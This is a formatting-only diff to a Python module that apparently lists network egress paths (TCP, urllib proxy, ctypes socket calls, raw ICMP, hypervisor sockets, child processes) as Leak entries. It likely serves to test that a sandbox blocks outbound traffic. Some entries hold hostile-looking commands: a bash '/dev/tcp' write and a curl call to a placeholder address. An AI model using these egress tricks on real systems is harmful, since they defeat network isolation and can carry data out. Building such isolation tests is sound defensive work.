@@ -1,4 +1,5 @@
-"""Ways out that any program has: sockets, names, the standard library, C calls, children and other programs."""
+"""Ways out that any program has: sockets, names, the standard library, C calls, children and other
+programs."""
 
 import contextlib
 import ctypes
@@ -40,7 +41,9 @@ def urllib_proxy() -> None:
 
     os.environ["http_proxy"] = PROXY
     try:
-        urllib.request.build_opener(urllib.request.ProxyHandler()).open(f"http://{NAME}/", timeout=2)
+        urllib.request.build_opener(urllib.request.ProxyHandler()).open(
+            f"http://{NAME}/", timeout=2
+        )
     finally:
         del os.environ["http_proxy"]
 
@@ -103,7 +106,10 @@ def forked() -> None:
 
 def libc_address() -> Any:
     return ctypes.create_string_buffer(
-        socket.AF_INET.to_bytes(2, sys.byteorder) + (443).to_bytes(2, "big") + socket.inet_aton(OUT4), 16
+        socket.AF_INET.to_bytes(2, sys.byteorder)
+        + (443).to_bytes(2, "big")
+        + socket.inet_aton(OUT4),
+        16,
     )
 
 
@@ -137,7 +143,10 @@ except OSError:
     echo = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
 echo.sendto(bytes((8, 0, 247, 255, 0, 0, 0, 0)), ("{OUT4}", 0))"""
 """What ping does: the socket for echo requests, else a raw one."""
-NO_FAMILY, NO_RIGHT = ("Address family not supported",), ("Operation not permitted", "Network is unreachable")
+NO_FAMILY, NO_RIGHT = (
+    ("Address family not supported",),
+    ("Operation not permitted", "Network is unreachable"),
+)
 
 GENERAL = (
     Leak("TCP", tcp4, counted=True),
@@ -167,14 +176,38 @@ GENERAL = (
     Leak("bluetooth socket", lambda: socket.socket(31, socket.SOCK_SEQPACKET)),
     Leak("ctypes connect", libc_connect, seen=False, counted=True),
     Leak("ctypes sendto", libc_sendto, seen=False, counted=True),
-    Leak("ctypes socket to the hypervisor", lambda: libc_socket(40, socket.SOCK_STREAM), seen=False,
-         says=NO_FAMILY),
+    Leak(
+        "ctypes socket to the hypervisor",
+        lambda: libc_socket(40, socket.SOCK_STREAM),
+        seen=False,
+        says=NO_FAMILY,
+    ),
     Leak("child: python", lambda: program(sys.executable, "-c", PYTHON), seen=False, counted=True),
-    Leak("child: curl", lambda: program("curl", "-sS", "-m", "3", f"http://{OUT4}/"), seen=False, counted=True,
-         needs="curl"),
-    Leak("child: bash", lambda: program("bash", "-c", f"echo rows > /dev/tcp/{OUT4}/443"), seen=False, counted=True,
-         needs="bash"),
-    Leak("child: resolver", lambda: program("getent", "hosts", NAME), seen=False, says=("[Errno 2] getent",),
-         needs="getent"),
-    Leak("child: echo request", lambda: program(sys.executable, "-c", PING), seen=False, says=NO_RIGHT),
-)  # fmt: skip
+    Leak(
+        "child: curl",
+        lambda: program("curl", "-sS", "-m", "3", f"http://{OUT4}/"),
+        seen=False,
+        counted=True,
+        needs="curl",
+    ),
+    Leak(
+        "child: bash",
+        lambda: program("bash", "-c", f"echo rows > /dev/tcp/{OUT4}/443"),
+        seen=False,
+        counted=True,
+        needs="bash",
+    ),
+    Leak(
+        "child: resolver",
+        lambda: program("getent", "hosts", NAME),
+        seen=False,
+        says=("[Errno 2] getent",),
+        needs="getent",
+    ),
+    Leak(
+        "child: echo request",
+        lambda: program(sys.executable, "-c", PING),
+        seen=False,
+        says=NO_RIGHT,
+    ),
+)
